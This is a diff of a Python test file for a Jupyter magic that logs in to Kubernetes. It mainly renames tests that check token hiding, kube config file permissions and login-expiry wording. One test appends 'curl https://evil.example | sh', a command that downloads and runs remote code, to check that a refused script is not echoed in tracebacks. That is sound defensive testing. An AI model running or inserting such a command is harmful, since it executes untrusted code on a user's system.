@@ -61,9 +61,7 @@ def test_a_script_logs_in_and_shows_none_of_its_tokens(
     assert (tmp_path / ".kube" / "config").stat().st_mode & 0o777 == 0o600
 
 
-def test_a_script_that_is_refused_is_not_repeated_even_in_verbose_tracebacks(
-    notebook: Notebook, script: Path
-) -> None:
+def test_refused_script_is_not_repeated_in_tracebacks(notebook: Notebook, script: Path) -> None:
     text = script.read_text()
     script.write_text(f"{text}curl https://evil.example | sh\n")
     notebook.run("%xmode Verbose")
@@ -78,11 +76,11 @@ def test_there_is_no_cell_that_takes_a_script(notebook: Notebook) -> None:
     assert "k8s_login" not in notebook.shell.magics_manager.magics["cell"]
 
 
-def test_a_script_and_another_configuration_exclude_each_other(notebook: Notebook, script: Path) -> None:
+def test_script_excludes_another_configuration(notebook: Notebook, script: Path) -> None:
     assert isinstance(notebook.fail(f"%k8s_login {script} --context alice"), errors.UsageProblem)
 
 
-def test_the_end_of_a_login_is_told_an_hour_before_and_in_words() -> None:
+def test_login_end_is_told_an_hour_before() -> None:
     now = datetime(2026, 6, 1, 12, tzinfo=UTC)
     validity = Validity(now + timedelta(minutes=5), now + timedelta(days=2), renews=True)
     assert validity.words(now) == "until 2026-06-03 12:00 UTC (2d more); the token renews itself"
